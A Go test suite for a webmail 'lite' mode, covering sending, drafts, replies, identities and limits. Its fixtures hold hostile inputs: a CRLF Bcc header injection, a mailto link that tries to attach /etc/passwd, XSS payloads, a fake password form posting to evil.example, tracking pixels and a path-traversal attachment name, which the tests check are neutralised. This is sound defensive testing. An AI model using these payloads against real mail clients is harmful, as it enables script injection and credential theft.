package lite

import (
	"bytes"
	"net/url"
	"strings"
	"testing"

	"doublet/directory"
	"doublet/mailbox"
	"doublet/note"
	"doublet/wire/mime"
)

// last returns the newest message of a folder, as stored.
func (w *world) last(who, folder string) (raw []byte, words []string) {
	w.t.Helper()
	f := w.file(who)
	at, err := f.Folder(bg, folder)
	w.ok(err)
	found, err := f.Query(bg,
		&mailbox.Query{Filter: mailbox.Filter{Kind: mailbox.FilterIn, Folders: []note.UNID{at.UNID}}, Limit: 1})
	w.ok(err)
	if len(found.Hits) == 0 {
		return nil, nil
	}
	w.ok(f.Read(bg, func(d *mailbox.Reading) error {
		m, err := d.Email(found.Hits[0].ID)
		if err != nil {
			return err
		}
		for k := range m.Keywords {
			words = append(words, k)
		}
		body, err := m.Body()
		if err == nil {
			raw, err = body.AppendRange(nil, 0, body.Size())
		}
		return err
	}))
	return raw, words
}

func TestWrite(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	b := w.signed("alice")
	b.follow("Write")
	b.send("upload", map[string]string{"Größe.txt": "a file", "b.bin": "\x00\x01"}, "to",
		"Bob <bob@example.com>; carol@example.com", "bcc", "alice@example.com", "subject", "Hallo – 你好 🎲", "text",
		"Line one\nFrom two\n.\nÄ", "do", "send")
	b.want(200, "The message is sent")
	raw, _ := w.last("bob", "INBOX")
	p := mime.Parse(raw, mime.DefaultLimits)
	if got := mime.DecodeWords(p.Envelope.Subject); got != "Hallo – 你好 🎲" {
		t.Errorf("subject %q", got)
	}
	if text, _ := mime.DecodeText(p.Children[0], raw, 1<<20); strings.ReplaceAll(text, "\r\n",
		"\n") != "Line one\nFrom two\n.\nÄ" {
		t.Errorf("text %q", text)
	}
	names := map[string]bool{}
	for _, c := range p.Children[1:] {
		names[c.Filename()] = true
	}
	if len(p.Children) != 3 || !names["Größe.txt"] || !names["b.bin"] {
		t.Errorf("%v", names)
	}
	if len(p.Envelope.Bcc) > 0 {
		t.Error("Bcc is told to others")
	}
	sent, words := w.last("alice", "Sent")
	if s := mime.Parse(sent, mime.DefaultLimits); len(s.Envelope.Bcc) != 1 ||
		strings.Contains(strings.Join(words, " "), mailbox.Draft) {
		t.Errorf("the copy: %v %v", s.Envelope.Bcc, words)
	}
	if raw, _ := w.last("alice", "Drafts"); raw != nil {
		t.Error("the draft stays")
	}
	if raw, _ := w.last("alice", "INBOX"); raw == nil {
		t.Error("Bcc did not arrive")
	}
	b.follow("Sent")
	b.want(200, "Hallo – 你好 🎲", "Bob, carol@example.com")
}

func TestWriteWrong(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	b := w.signed("alice")
	for to, said := range map[string]string{
		"": "Name at least one", "bob": "“bob” is not an address", "a b c": "is not an address",
		"nobody@example.com": "refused", "bob@example.com, <script>@x": "is not an address",
		strings.Repeat("x@far.example, ", 1) + manyAddresses(25): "refused",
	} {
		b.get(pathCompose)
		b.send("upload", map[string]string{}, "to", to, "subject", "Keep", "text", "my <words>", "do", "send")
		b.want(422, said, "my &lt;words&gt;", `value="Keep"`)
	}
	if raw, _ := w.last("alice", "Sent"); raw != nil {
		t.Error("something was sent")
	}
	b.get(pathCompose)
	b.send("upload", map[string]string{}, "to", "bob@example.com, nobody@example.com", "text", "x", "do", "send")
	b.want(200, "not to nobody@example.com")
	if raw, _ := w.last("bob", "INBOX"); raw == nil {
		t.Error("it did not go to whom it could")
	}
	b.get(pathCompose)
	b.send("upload", map[string]string{}, "subject", "x\r\nBcc: carol@example.com", "to", "bob@example.com", "text",
		"y", "do", "send")
	raw, _ := w.last("bob", "INBOX")
	if got, ok := mime.Get(raw, "Bcc"); ok {
		t.Errorf("a field was smuggled in: %q", got)
	}
}

func manyAddresses(n int) string {
	var out []string
	for i := range n {
		out = append(out, "p"+itoa(i)+"@example.com")
	}
	return strings.Join(out, ", ")
}

func TestDraft(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	b := w.signed("alice")
	b.get(pathCompose)
	b.send("upload", map[string]string{"one.txt": "1"}, "to", "bob@example", "subject", "Half", "text", "done\n",
		"do", "attach")
	b.want(200, "Draft saved", "one.txt", `value="bob@example"`, "done")
	b.send("upload", map[string]string{"two.txt": "2"}, "text", "done more", "do", "save")
	b.want(200, "one.txt", "two.txt", "done more")
	b.follow("Drafts")
	b.want(200, "Half", "<b>1</b>") // one draft, not two
	b.follow("Half")
	b.want(200, "one.txt", "two.txt", "done more")
	files := heldFiles(b)
	b.send("upload", map[string]string{}, "to", "bob@example.com", "do", "send", "file", files[1]) // without the first
	b.want(200, "The message is sent")
	raw, _ := w.last("bob", "INBOX")
	if !bytes.Contains(raw, []byte("two.txt")) || bytes.Contains(raw, []byte("one.txt")) {
		t.Errorf("%s", raw)
	}
	b.get(pathCompose)
	b.send("upload", map[string]string{}, "text", "x", "do", "save")
	b.send("upload", map[string]string{}, "do", "discard")
	b.want(200, "Draft discarded")
	b.follow("Drafts")
	b.want(200, "Nothing here")
	// A message that is not a draft is not deleted, even if the form names it as one.
	id := w.put("alice", "INBOX", simple("Mine", "x"))
	b.get(pathCompose)
	b.send("upload", map[string]string{}, "draft", id, "do", "discard")
	b.get(Path)
	b.want(200, "Mine")
}

func heldFiles(b *browser) (out []string) {
	for _, tag := range inputPattern.FindAllString(b.page, -1) {
		if name, _ := attribute(tag, "name"); name == "file" {
			v, _ := attribute(tag, "value")
			out = append(out, v)
		}
	}
	return out
}

func firstFile(b *browser) string {
	b.w.t.Helper()
	list := heldFiles(b)
	if len(list) == 0 {
		b.w.t.Fatal("no file is kept")
	}
	return list[0]
}

func TestAnswer(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	w.put("alice", "INBOX", "From: Bob <bob@example.com>\nReply-To: carol@example.com\n"+
		"To: Alice <alice@example.com>, Dan <dan@far.example>\nCc: bob@example.com\nSubject: AW: Re: Plan\n"+
		"Message-ID: <3@x>\nReferences: <1@x> <2@x>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"+
		"--b\n\nThe plan\n> old\n--b\nContent-Disposition: attachment; filename=plan.pdf\n"+
		"Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n\ncGRm\n--b--\n")
	b := w.signed("alice")
	b.follow("Plan")
	at := b.at
	b.follow("Reply")
	b.want(200, `value="carol@example.com"`, `value="Re: Plan"`, "Bob wrote:\n&gt; The plan\n&gt;&gt; old")
	b.lacks("plan.pdf")
	b.get(at)
	b.follow("Reply to all")
	b.want(200, `name="cc" value="Dan &lt;dan@far.example&gt;, bob@example.com"`)
	b.send("upload", map[string]string{}, "cc", "", "text", "Yes", "do", "send")
	b.want(200, "The message is sent")
	raw, _ := w.last("carol", "INBOX")
	if r, _ := mime.Get(raw, "References"); r != "<1@x> <2@x> <3@x>" {
		t.Errorf("references %q", r)
	}
	if r, _ := mime.Get(raw, "In-Reply-To"); r != "<3@x>" {
		t.Errorf("in reply to %q", r)
	}
	if _, words := w.last("alice", "INBOX"); strings.Join(words, " ") != mailbox.Answered {
		t.Errorf("%v", words)
	}
	b.get(at)
	b.follow("Forward")
	b.want(200, `value="Fwd: Plan"`, "Forwarded message", "plan.pdf", "Subject: AW: Re: Plan")
	b.send("upload", map[string]string{}, "do", "save", "file", firstFile(b))
	b.want(200, "plan.pdf")
	b.send("upload", map[string]string{}, "do", "send", "to", "bob@example.com", "file", firstFile(b))
	b.want(200, "The message is sent")
	raw, _ = w.last("bob", "INBOX")
	if !bytes.Contains(raw, []byte("\r\ncGRm\r\n")) {
		t.Errorf("%s", raw)
	}
	if _, words := w.last("alice", "INBOX"); !strings.Contains(strings.Join(words, " "), "$forwarded") {
		t.Errorf("%v", words)
	}
	// A reply that is saved as a draft remains a reply.
	b.get(at)
	b.follow("Reply")
	b.send("upload", map[string]string{}, "do", "save")
	b.follow("Drafts")
	b.follow("Re: Plan")
	b.send("upload", map[string]string{}, "do", "send")
	raw, _ = w.last("carol", "INBOX")
	if r, _ := mime.Get(raw, "In-Reply-To"); r != "<3@x>" {
		t.Errorf("in reply to %q", r)
	}
}

func TestIdentities(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	_, err := w.dir.People.Set(bg, note.System, w.people["alice"].ID, func(f *directory.PersonFields) error {
		f.MailAddress = []string{"sales@example.com"}
		return nil
	})
	w.ok(err)
	b := w.signed("alice")
	b.get(pathSettings)
	b.send("<bdi>sales@example.com</bdi>", nil, "name", "The Sales", "text", "Buy!", "do", "identity")
	w.put("alice", "INBOX", "From: Eve <bob@example.com>\nTo: sales@example.com\nSubject: Offer\n\nx\n")
	b.get(Path)
	b.follow("Offer")
	b.follow("Reply")
	b.want(200, "selected>The Sales", "-- \nBuy!")
	b.send("upload", map[string]string{}, "do", "send")
	raw, _ := w.last("bob", "INBOX")
	if p := mime.Parse(raw, mime.DefaultLimits); p.Envelope.From[0].Mailbox != "sales" ||
		p.Envelope.From[0].Name != "The Sales" {
		t.Errorf("%+v", p.Envelope.From)
	}
	b.get(pathCompose)
	// not one of her identities: the default one is used
	b.send("upload", map[string]string{}, "to", "bob@example.com", "identity", "i0000", "do", "send")
	raw, _ = w.last("bob", "INBOX")
	if p := mime.Parse(raw, mime.DefaultLimits); p.Envelope.From[0].Mailbox != "alice" {
		t.Errorf("%+v", p.Envelope.From)
	}
}

func TestFind(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	w.put("alice", "INBOX", "From: Carla Far <carla@far.example>\nSubject: x\n\nx\n")
	b := w.signed("alice")
	b.get(pathCompose)
	b.send("upload", map[string]string{}, "to", "bob@example.com", "text", "kept", "find", "car", "do", "find")
	b.want(200, "Carol Example", "Carla Far", "kept")
	b.send("upload", map[string]string{}, "do", "add:Carol Example <carol@example.com>")
	b.want(200, `value="bob@example.com, Carol Example &lt;carol@example.com&gt;"`, "kept")
	_, err := w.dir.Groups.Add(bg, note.System, directory.GroupFields{Name: "The Choir",
		InternetAddress: "choir@example.com"})
	if err != nil {
		t.Fatal(err)
	}
	b.send("upload", map[string]string{}, "find", "choi", "do", "find") // by the second word
	b.want(200, "choir@example.com")
	b.send("upload", map[string]string{}, "find", "zzz", "do", "find")
	b.want(200, "Nobody found")
	b.get(pathCompose + "?mailto=" +
		url.QueryEscape("mailto:a@b.example?subject=S%20x&body=one%0D%0Atwo&cc=c@d.example&attach=/etc/passwd"))
	b.want(200, `value="a@b.example"`, `value="S x"`, "one\ntwo", `value="c@d.example"`)
}

// TestHostileMail checks that hostile mail is shown as text. No page may have a script, a style or a foreign address.
func TestHostileMail(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	hostile := []string{
		`<script>top.hacked=1</script><img src=x onerror="top.hacked=2"><svg onload="top.hacked=3"></svg>`,
		`<a href="javascript:top.hacked=4">press</a><form action="https://evil.example"><input name=password>` +
			`<button>Sign in</button></form>`,
		`<style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}</style>` +
			`<link rel=stylesheet href="https://evil.example/c.css">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><img ` +
			`src="https://evil.example/pixel.gif"><img srcset="https://evil.example/s.png 2x">`,
		`<div style="position:fixed;inset:0;background:url('https://evil.example/d.png')">cover</div><iframe ` +
			`src="https://evil.example/"></iframe><object data="https://evil.example/"></object>`,
		`</div></article></main></body><nav id="folders"><p>plain end</p>`,
	}
	w.put("alice", "INBOX", "Subject: <script>alert(1)</script>\nFrom: \"<img src=x onerror=y>\" <a@b.example>\n"+
		"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n"+
		"Content-Type: text/html; charset=utf-8\n\n"+strings.Join(hostile, "\n")+
		"<img src=\"cid:pic@x\"><img src=\"cid:html@x\">\n--b\nContent-Type: image/png\nContent-ID: <pic@x>\n\nPNG\n"+
		"--b\nContent-Type: image/svg+xml\nContent-ID: <html@x>\nContent-Disposition: inline; filename=\"a.svg\"\n\n"+
		"<svg onload=alert(1)></svg>\n--b\nContent-Type: text/html\n"+
		"Content-Disposition: attachment; filename=\"../../evil\u202ephp.html\"\n\n<script>alert(1)</script>\n--b--\n")
	b := w.signed("alice")
	b.want(200, "&lt;script&gt;alert(1)")
	b.follow("&lt;script&gt;")
	b.want(200, "press", "cover", "plain end", "Load pictures", "show=1")
	b.lacks("evil.example", "hacked", `<nav id="folders"><p>`)
	if strings.Count(b.page, "<form") != 6 { // the forms of the page itself
		t.Errorf("%d forms", strings.Count(b.page, "<form"))
	}
	at := b.at
	b.follow("Load pictures")
	b.want(200, `src="https://evil.example/pixel.gif"`)
	b.lacks("evil.example/s.png", "evil.example/d.png", "evil.example/a.css", "hacked")
	if !strings.Contains(b.header.Get("Content-Security-Policy"), "img-src 'self' https: http:") {
		t.Error(b.header)
	}
	m := strings.TrimPrefix(at, pathRead+"?")
	for part, kind := range map[string]string{"2": "image/png", "3": "application/octet-stream",
		"4": "application/octet-stream"} {
		b.get(pathPart + "?" + m + "&s=" + part + "&show=1")
		b.want(200)
		h := b.header
		if got := h.Get("Content-Type"); got != kind && got != "image/svg+xml" ||
			h.Get("Content-Security-Policy") != policyForeign || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %v", part, h)
		}
		if d := h.Get("Content-Disposition"); part != "2" && !strings.HasPrefix(d, "attachment") ||
			strings.ContainsAny(d, "/\u202e") {
			t.Errorf("%s: %s", part, d)
		}
	}
	b.get(at)
	b.follow("As plain text")
	b.want(200, "press")
	b.lacks("hacked", "evil.example/pixel")
	b.get(at)
	b.follow("Reply")
	b.want(200, "press")
}

// TestTooLarge checks that a file that is too large does not lose the text.
func TestTooLarge(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	b := w.signed("alice")
	b.get(pathCompose)
	b.send("upload", map[string]string{"huge.bin": strings.Repeat("x", 62<<20)}, "to", "bob@example.com", "text",
		"An hour of words", "do", "send")
	b.want(413, "larger than the server accepts", "An hour of words")
	b.send("upload", map[string]string{"large.bin": strings.Repeat("x", 50<<20)}, "do", "send") // too large in base64
	b.want(413, "An hour of words")
	b.send("upload", map[string]string{"small.bin": "x"}, "do", "send")
	b.want(200, "The message is sent")
}

// TestSignedOutLimit checks that a form without a session is limited to text, and that this limits no other form.
func TestSignedOutLimit(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	b := w.signed("alice")
	b.get(pathCompose)
	form := b.page
	send := func(b *browser) {
		t.Helper()
		b.page = form
		b.send("upload", map[string]string{"data.bin": strings.Repeat("x", 3<<20)}, "to", "bob@example.com", "text",
			"Words", "do", "send")
	}
	stranger := w.browser()
	send(stranger)
	stranger.want(401, "Words")
	send(b)
	b.want(200, "The message is sent")
}

// TestLongText checks that a draft is not opened if the form cannot hold it, and that an answer marks where it was cut.
func TestLongText(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	long := strings.Repeat("Line upon line.\n", 40_000)
	draft := w.put("alice", "Drafts", simple("Long draft", long), `\Draft`)
	w.put("alice", "INBOX", simple("Long mail", long))
	b := w.signed("alice")
	b.get(pathCompose + "?draft=" + draft)
	b.want(413, "too long for the lite mode")
	if raw, _ := w.last("alice", "Drafts"); !bytes.Contains(raw, []byte("Line upon line.")) {
		t.Error("the draft is gone")
	}
	b.get(Path)
	b.follow("Long mail")
	at := b.at
	b.follow("Forward")
	b.want(200, "[…]")
	b.get(at)
	b.follow("Reply")
	b.want(200, "[…]")
	b.send("upload", map[string]string{}, "do", "send")
	b.want(200, "The message is sent")
	w.put("alice", "INBOX", simple("Short mail", "Short"))
	b.get(Path)
	b.follow("Short mail")
	b.follow("Reply")
	b.want(200)
	b.lacks("[…]")
}

// TestManyFiles checks that a message with very many attachments is forwarded with all of them, by a small form.
func TestManyFiles(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	raw := "Subject: Many\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\ntext\n"
	for i := range 500 {
		raw += "--b\nContent-Disposition: attachment; filename=f" + itoa(i) + ".bin\n\n" + itoa(i) + "\n"
	}
	w.put("alice", "INBOX", raw+"--b--\n")
	b := w.signed("alice")
	b.follow("Many")
	b.follow("Forward")
	b.want(200, "500 attachments")
	b.send("upload", map[string]string{}, "do", "save")
	b.want(200, "500 attachments")
	b.send("upload", map[string]string{}, "to", "bob@example.com", "do", "send")
	b.want(200, "The message is sent")
	got, _ := w.last("bob", "INBOX")
	if n := bytes.Count(got, []byte("Content-Disposition: attachment")); n != 500 {
		t.Errorf("%d files", n)
	}
}

// TestRefusedFiles checks that a rejected message can be sent again with its files, although their draft was replaced.
func TestRefusedFiles(t *testing.T) {
	t.Parallel()
	w := open(t, 0)
	b := w.signed("alice")
	b.get(pathCompose)
	b.send("upload", map[string]string{"one.txt": "1"}, "text", "x", "do", "attach")
	b.send("upload", map[string]string{"two.txt": "2"}, "to", "nobody@example.com", "do", "send")
	b.want(422, "refused", "one.txt", "two.txt")
	b.send("upload", map[string]string{}, "to", "bob@example.com", "do", "send")
	b.want(200, "The message is sent")
	raw, _ := w.last("bob", "INBOX")
	if !bytes.Contains(raw, []byte("one.txt")) || !bytes.Contains(raw, []byte("two.txt")) {
		t.Errorf("%s", raw)
	}
	if raw, _ := w.last("alice", "Drafts"); raw != nil {
		t.Error("a draft is left over")
	}
}
